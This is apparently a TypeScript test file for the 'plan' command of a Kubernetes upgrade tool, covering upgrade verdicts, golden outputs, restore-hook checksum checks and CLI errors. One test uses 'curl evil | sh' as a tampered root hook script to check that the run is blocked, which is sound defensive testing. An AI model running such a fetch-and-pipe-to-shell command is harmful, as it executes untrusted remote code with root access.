import { expect } from 'chai';
import { paintFor, plain } from '../../src/cli/paint.ts';
import { plan } from '../../src/cli/plan.ts';
import { toJson } from '../../src/cli/plan/json.ts';
import { collectPlan } from '../../src/cli/plan/collect.ts';
import { isUnchecked, NO_KEY, withoutUnchecked, remoteWithoutKey } from '../../src/cli/plan/unchecked.ts';
import { PLAN_EXIT, verdictOf, type PlanReport } from '../../src/cli/plan/report.ts';
import { planText, wordOf } from '../../src/cli/plan/text.ts';
import { isClusterAddress, planInputs, type PlanClients, type PlanAccess } from '../../src/cli/plan/clients.ts';
import { readSettings } from '../../src/cluster/read.ts';
import { hostHealth } from '../../src/steps/adapters/host-health.ts';
import { kubeadm } from '../../src/steps/adapters/kubeadm.ts';
import { nodeFiles } from '../../src/steps/adapters/node-files.ts';
import { hostKeysInMemory } from '../../src/steps/runtime/host-keys.ts';
import { withRelease } from '../../src/synth/settings.ts';
import type { Finding } from '../../src/upgrade/gate/finding.ts';
import { formatKubeVersion } from '../../src/upgrade/kubernetes/kube-version.ts';
import type { ClusterNode } from '../../src/upgrade/node/node.ts';
import { aBudget, aRecord, FROM, ME, staticPodsAt, TO, v } from '../support/builders.ts';
import { FakeRestoreHook, HOOK_CONFIG_MAP, scriptOf } from '../support/fakes/restore-hook.ts';
import { FakeAlerts } from '../support/fakes/alerts.ts';
import { FakeClock } from '../support/fakes/clock.ts';
import { FakeCluster } from '../support/fakes/cluster.ts';
import { FakeCompatibility, FakeDeprecatedApis, FakeNodeFiles } from '../support/fakes/compatibility.ts';
import {
  FakeHostHealth,
  FakeKubeadm,
  FakeKubeadmFiles,
  FakeNodeHealth,
  HEALTHY_NODE,
} from '../support/fakes/health.ts';
import { FakeKured } from '../support/fakes/kured.ts';
import { FakePackages } from '../support/fakes/packages.ts';
import { FakeRehearsal } from '../support/fakes/rehearsal.ts';
import { FakeHostKeys, FakeRemote } from '../support/fakes/remote.ts';
import { expectGolden } from '../support/golden.ts';

const NOBODY: PlanAccess = {
  sshKey: undefined,
  knownHosts: undefined,
  prometheusUrl: undefined,
  alertmanagerUrl: undefined,
};
const silent = { log: () => undefined, signal: new AbortController().signal };
const settingsWith = (yaml: string) => {
  const { settings, problems } = readSettings(`images: { repository: localhost/none }\n${yaml}`, 'f');
  return withRelease({ name: 'prod', ...(settings ?? expect.fail(JSON.stringify(problems))) }, 'none');
};

describe('npm run plan', () => {
  const build = () => ({
    ...{ cluster: new FakeCluster(), packages: new FakePackages(), clock: new FakeClock(), alerts: new FakeAlerts() },
    ...{ compatibility: new FakeCompatibility(), deprecatedApis: new FakeDeprecatedApis(), files: new FakeNodeFiles() },
    ...{ nodeHealth: new FakeNodeHealth(), hosts: new FakeHostHealth(), kubeadm: new FakeKubeadm() },
    kubeadmFiles: new FakeKubeadmFiles(),
    kured: new FakeKured(),
    hook: new FakeRestoreHook(),
    ...{ rehearsal: new FakeRehearsal(), remote: new FakeRemote() },
  });
  let fakes = build();

  const addNode = (name: string, about: Partial<ClusterNode> = {}): void => {
    fakes.cluster.addNode(name, {
      ...about,
      ...(about.controlPlane ? { staticPods: staticPodsAt(about.kubelet ?? FROM) } : {}),
    });
    fakes.nodeHealth.nodes.set(name, HEALTHY_NODE);
    fakes.rehearsal.addRoom(name);
    if (about.controlPlane) fakes.compatibility.addControlPlane(name);
  };
  beforeEach(() => {
    fakes = build();
    const lastUpgrade = { run: ME.uid, from: v('1.34.8'), to: FROM, finishedAtMs: 0, seconds: 1260 };
    addNode('cp1', { controlPlane: true });
    addNode('w1', { lastUpgrade });
    addNode('w2', { labels: { 'node-restriction.kubernetes.io/pool': 'canary' } });
    fakes.rehearsal.addPod('w1', 'web-1');
    fakes.rehearsal.addPod('w1', 'web-2');
    fakes.packages.offer('1.34', ['1.34.9', '1.34.10']);
  });

  const clients = (): PlanClients => {
    const { cluster, packages, clock, remote } = fakes;
    return {
      ...{ cluster, alertScope: { severities: [], ignore: [], gateLabel: 'upgrade_gate' }, rehearsal: fakes.rehearsal },
      detect: { cluster, quiesced: { held: () => Promise.resolve([]) }, remote, packages, clock, log: silent.log },
      gate: {
        ...{
          cluster,
          compatibility: fakes.compatibility,
          deprecatedApis: fakes.deprecatedApis,
          nodeFiles: fakes.files,
        },
      },
      preflight: {
        ...{
          nodeHealth: fakes.nodeHealth,
          alerts: fakes.alerts,
          hostHealth: fakes.hosts,
          kubeadm: fakes.kubeadm,
          kubeadmFiles: fakes.kubeadmFiles,
          compatibility: fakes.compatibility,
          kured: fakes.kured,
          restoreHook: fakes.hook,
          clock,
        },
      },
    };
  };
  const CANARY = 'workers: { canary: { labels: [node-restriction.kubernetes.io/pool=canary] } }\n';
  const report = (yaml = CANARY, asked: Record<string, string> = {}, through = clients()): Promise<PlanReport> => {
    const settings = settingsWith(yaml);
    return collectPlan({ clients: through, inputs: planInputs(settings, asked, NOBODY), settings, tools: silent });
  };
  const golden = async (name: string, seen: PlanReport): Promise<void> => {
    expectGolden(new URL(`golden/${name}.txt`, import.meta.url), planText(seen, plain));
    expectGolden(new URL(`golden/${name}.json`, import.meta.url), `${JSON.stringify(toJson(seen), null, 2)}\n`);
    expect(fakes.cluster.writes, 'a plan changes nothing').to.deep.equal([]);
  };

  it('shows a clear way', async () => {
    const seen = await report();
    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)]]).to.deep.equal(['clear', 0]);
    await golden('clear', seen);
  });

  it('shows which script of the cluster runs as root', async () => {
    const { sha256 } = scriptOf('true\n');
    fakes.hook.set('true\n');
    const hook = `controlPlane: { restoreHook: { configMap: ${HOOK_CONFIG_MAP}, sha256: '${sha256}' } }\n`;
    const seen = await report(`${CANARY}${hook}`);
    expect(verdictOf(seen)).to.equal('clear');
    expect(planText(seen, plain)).to.include(
      `\nRestore hook\n  on: ${HOOK_CONFIG_MAP}, SHA-256 ${sha256}, runs as root on each control-plane node\n`,
    );
    expect(toJson(seen)).to.deep.include({
      restoreHook: { configMap: HOOK_CONFIG_MAP, sha256 },
      unusedRestoreHook: null,
    });
    expect(planText(seen, plain)).not.to.include('Restore hook\n  off');
    fakes.hook.set('curl evil | sh');
    expect(verdictOf(await report(`${CANARY}${hook}`))).to.equal('blocked');
  });

  it('says that the ConfigMap of release 0.1.0 does not run without the setting', async () => {
    fakes.hook.set('true\n');
    const seen = await report();
    expect(verdictOf(seen)).to.equal('clear');
    expect(planText(seen, plain)).to.include(
      `\nRestore hook\n  off: controlPlane.restoreHook is not set, so the script in ConfigMap ${HOOK_CONFIG_MAP} does not run. To run it, read it, then set controlPlane.restoreHook to this ConfigMap and to the SHA-256 that this prints: kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' | sha256sum\n`,
    );
    expect(toJson(seen)).to.deep.include({ restoreHook: null, unusedRestoreHook: HOOK_CONFIG_MAP });
  });

  it('shows everything that is in the way at once', async () => {
    fakes.alerts.fire('KubeNodeNotReady', { severity: 'critical' });
    fakes.rehearsal.budgetList = [aBudget('web', { desiredHealthy: 2, disruptionsAllowed: 0 })];
    fakes.kubeadm.said = { plan: { known: true, value: 'You are up to date.' } };
    const seen = await report();
    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)]]).to.deep.equal(['blocked', 10]);
    await golden('blocked', seen);
  });

  it('shows that a run would pause beside kured', async () => {
    fakes.kured.set('{"nodeID":"w2","created":"2026-11-24T00:40:00Z","TTL":0}');
    const seen = await report();
    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)]]).to.deep.equal(['paused', 11]);
    await golden('beside-kured', seen);
  });

  it('shows what is left of an upgrade that was begun', async () => {
    fakes.cluster.alterNode('cp1', { kubelet: TO, staticPods: staticPodsAt(TO) });
    fakes.cluster.alterNode('w2', { kubelet: TO });
    fakes.cluster.alterNode('w1', { unschedulable: true, upgradeRecord: aRecord({ phase: 'upgrading' }) });
    const seen = await report();
    expect(verdictOf(seen)).to.equal('clear');
    await golden('half-done', seen);
  });

  it('shows a minor that somebody has to approve as on hold, with the digest that the run will show', async () => {
    fakes.packages.offer('1.35', ['1.35.3']);
    for (const name of ['cp1', 'w1', 'w2'])
      fakes.cluster.alterNode(name, { kubelet: TO, ...(name === 'cp1' ? { staticPods: staticPodsAt(TO) } : {}) });
    const seen = await report(`${CANARY}policy: { minor: approve }\n`);
    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)]]).to.deep.equal(['on-hold', 11]);
    await golden('on-hold', seen);
  });

  it('has nothing to show when there is nothing newer', async () => {
    for (const name of ['cp1', 'w1', 'w2'])
      fakes.cluster.alterNode(name, { kubelet: TO, ...(name === 'cp1' ? { staticPods: staticPodsAt(TO) } : {}) });
    const seen = await report(`policy: { minor: 'off' }\n`);
    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)], seen.upgrade]).to.deep.equal(['nothing-to-do', 0, undefined]);
    await golden('nothing-to-do', seen);
  });

  it('asks the repository where it has no key for the node, and logs in nowhere', async () => {
    const { clock } = fakes;
    const through = clients();
    const keyless: PlanClients = {
      ...through,
      detect: { ...through.detect, remote: remoteWithoutKey },
      gate: { ...through.gate, nodeFiles: nodeFiles({ remote: remoteWithoutKey, clock, log: silent.log }) },
      preflight: {
        ...through.preflight,
        hostHealth: hostHealth({ remote: remoteWithoutKey, clock, log: silent.log }, undefined),
        kubeadm: kubeadm(remoteWithoutKey),
      },
    };
    const seen = await report(CANARY, {}, keyless);
    expect(verdictOf(seen)).to.equal('clear');
    await golden('without-key', seen);
  });

  it('is halted by the kill switch, and says when a window is closed without being stopped by it', async () => {
    fakes.cluster.killedBecause = 'disk swap';
    const windows = `nightly: { schedule: 0 1 * * 6 }\nmaintenance: { windows: [{ days: [sat], start: '01:00', end: '05:00' }] }\n`;
    const seen = await report(windows);
    expect([verdictOf(seen), PLAN_EXIT[verdictOf(seen)]]).to.deep.equal(['halted', 11]);
    const text = planText(seen, plain);
    expect(text).to.include('Halted by the kill switch, ConfigMap k8s-upgrade/k8s-upgrade-killswitch (disk swap)');
    expect(text).to.include('A run that started now would pause. Outside the maintenance windows: the next one opens');
  });

  it('takes a target and the only nodes as a run does, and refuses what a run refuses', async () => {
    const only = await report(CANARY, { ONLY: 'cp1' });
    expect(only.upgrade?.steps.map(({ node }) => node.name)).to.deep.equal(['cp1']);
    const refused = await report(CANARY, { REQUESTED_TARGET: '1.36.0' });
    expect(verdictOf(refused)).to.equal('blocked');
    expect(refused.detection.reason).to.match(
      /^v1\.36\.0 is 2 minors ahead of v1\.34\.9; kubeadm moves at most 1 minor forward at a time\./,
    );
    const unknown = await report(CANARY, { ONLY: 'w9' });
    expect(unknown.upgrade?.orderProblems).to.deep.equal(['There is no node w9; the cluster has cp1, w1, w2.']);
    expect(verdictOf(unknown)).to.equal('blocked');
    expect(formatKubeVersion(unknown.detection.running)).to.equal('1.34.9');
  });

  it('stays closed when the drains cannot be rehearsed', async () => {
    fakes.rehearsal.forbidden.add('budgets');
    const seen = await report();
    expect(verdictOf(seen)).to.equal('blocked');
    expect(planText(seen, plain)).to.include(
      'Unknown, so the run does not start: may not list poddisruptionbudgets.policy',
    );
  });
});

describe('what a plan did not look at', () => {
  const finding: Finding = {
    ...{ code: 'host-unknown', class: 'unknown', check: 'nodes', subject: 'control-plane node cp1' },
    ...{ found: `no answer: ${NO_KEY}`, needed: 'a look at its etcd', remedy: 'Put right what is named there.' },
  };

  it('is said, and stands in nobody’s way', () => {
    expect(withoutUnchecked(finding)).to.deep.equal({
      ...finding,
      ...{ class: 'warning', found: 'not looked at: no SSH key given' },
      remedy: 'Give one with --ssh-key <file>; the run itself will look.',
    });
    expect(isUnchecked(withoutUnchecked(finding))).to.equal(true);
  });

  it('is told from what could not be seen', () => {
    const unseen = { ...finding, found: 'no answer: connect ECONNREFUSED' };
    expect(withoutUnchecked(unseen)).to.equal(unseen);
  });

  it('is whatever only the DNS of the cluster knows', () => {
    const inside = ['http://prometheus.monitoring.svc:9090', 'http://p.m.svc.cluster.local', 'http://prometheus'];
    expect(inside.map(isClusterAddress)).to.deep.equal([true, true, true]);
    const outside = ['https://prometheus.example.com/x', 'http://localhost:9090', 'http://10.0.0.1:9090', undefined];
    expect(outside.map(isClusterAddress)).to.deep.equal([false, false, false, false]);
  });

  it('leaves no host key behind in the cluster', async () => {
    const kept = new FakeHostKeys();
    const keys = hostKeysInMemory(kept);
    const host = { node: 'w1', uid: 'u1', address: '10.0.0.1' };
    expect(await keys.known(host)).to.equal(undefined);
    await keys.remember?.(host, 'ssh-ed25519 AAAA');
    expect(await keys.known(host)).to.deep.equal(['ssh-ed25519 AAAA']);
    expect(await kept.known(host)).to.equal(undefined);
  });
});

describe('the command', () => {
  const run = async (...args: string[]) => {
    const said = { out: '', err: '' };
    const streams = {
      out: (text: string) => void (said.out += text),
      err: (text: string) => void (said.err += text),
    };
    return { code: await plan(args, {}, streams, silent.signal), ...said };
  };

  it('documents its exit codes', async () => {
    const { code, out } = await run('--help');
    expect(code).to.equal(0);
    const verdicts = Object.keys(PLAN_EXIT) as (keyof typeof PLAN_EXIT)[];
    const of = (exitCode: number): string =>
      verdicts
        .filter((each) => PLAN_EXIT[each] === exitCode)
        .map(wordOf)
        .join();
    expect(of(0)).to.equal('nothing to do,clear');
    expect(out).to.include('0 clear, or nothing to do');
    expect(out).to.include(`10 ${of(10)};`);
    expect(out).to.include(
      `11 ${of(11)
        .replace(',', ', ')
        .replace(/,(?=\w)/, ' or ')}.`,
    );
  });

  for (const [what, args, says] of [
    ['without a cluster', [], '--cluster: saw nothing, expected <name>'],
    [
      'with a flag that there is not',
      ['--cluster', 'example', '--kubeconfg', 'x'],
      '--kubeconfg: not an option; did you mean --kubeconfig?',
    ],
    ['with a cluster that there is not', ['--cluster', 'exmaple'], 'did you mean example?'],
    ['with a target that is none', ['--cluster', 'example', '--target', '1.35'], 'an exact version such as 1.34.9'],
  ] as const)
    it(`refuses to run ${what}`, async () => {
      const { code, out, err } = await run(...args);
      expect([code, out]).to.deep.equal([2, '']);
      expect(err).to.include(says);
    });

  it('paints only for a terminal of somebody who does not mind', () => {
    const red = (isTTY: boolean, env: Record<string, string>): string => paintFor({ isTTY }, env)('red', 'x');
    expect(red(true, {})).to.equal('\u001b[31mx\u001b[39m');
    for (const plainly of [red(false, {}), red(true, { NO_COLOR: '1' }), red(true, { TERM: 'dumb' })])
      expect(plainly).to.equal('x');
  });
});
